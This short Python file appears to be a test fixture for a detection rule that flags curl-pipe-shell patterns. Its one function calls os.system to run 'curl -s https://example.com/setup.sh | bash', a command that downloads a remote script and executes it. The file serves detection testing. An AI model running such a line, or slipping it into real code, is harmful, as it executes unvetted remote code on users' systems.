import os
import subprocess


def setup():
    # The pipe inside a Python string is the same thing.
    # ruleid: yara.download_exec.curl_pipe_shell
    os.system("curl -s https://example.com/setup.sh | bash")
